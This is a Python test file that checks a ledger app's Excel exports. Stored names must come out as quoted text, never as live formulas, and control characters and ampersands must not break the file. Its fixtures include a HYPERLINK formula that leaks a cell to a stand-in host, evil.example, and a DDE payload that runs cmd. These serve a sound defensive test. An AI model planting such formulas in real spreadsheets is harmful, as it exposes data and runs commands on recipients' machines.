"""What is stored never turns into a live formula in an export, nor breaks one (written by core.excel)."""

import io
import zipfile

import pytest
from openpyxl import load_workbook

from wangge.people import excel, services
from wangge.people.models import Organisation, Person

from .conftest import GRID_1, point_in

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
DDE = "=cmd|' /C calc'!A0"


def cells(content: bytes):
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("name", [HYPERLINK, DDE, "+1+1", "-2+3", "@SUM(1)", "\tlead"])
def test_an_organisation_named_like_a_formula_is_exported_as_text(ledger, caller, name):
    lon, lat = point_in(GRID_1)
    org = services.create_organisation(
        actor=ledger.worker1, data={"kind": "enterprise", "name": "x", "lon": lon, "lat": lat}
    )
    Organisation.objects.filter(pk=org.pk).update(name=name)  # as it may be stored already
    response = caller("gridworker1").post("/ledgers/organisations/export", {})
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
    written = [c for c in cells(response.content) if c.value == name]
    assert written, "the name is kept as it was"
    assert all(c.data_type == "s" and c.quotePrefix for c in written)


def test_a_control_character_in_a_stored_name_no_longer_breaks_the_export(ledger, caller):
    Person.objects.filter(pk=ledger.person1.pk).update(name="王\x01建\x1b国\x7f")
    response = caller("gridworker1").post("/ledgers/persons/export", {})
    assert response.status_code == 200
    assert "王建国" in [c.value for c in cells(response.content)]


def test_the_watermark_keeps_an_ampersand_in_a_name_literal_in_the_print_header(ledger, caller):
    ledger.worker1.display_name = "A&B"
    ledger.worker1.save(update_fields=["display_name"])
    response = caller("gridworker1").post("/ledgers/persons/export", {})
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert "A&&B" in sheet.oddHeader.center.text


@pytest.mark.parametrize("kind", excel.KINDS)
def test_templates_are_built_by_the_safe_writer(kind):
    from wangge.core.excel import SafeWorkbook

    built = []
    original = SafeWorkbook.save

    def spy(self, filename):
        built.append(self)
        return original(self, filename)

    SafeWorkbook.save = spy
    try:
        assert excel.template(kind)
    finally:
        SafeWorkbook.save = original
    assert len(built) == 1
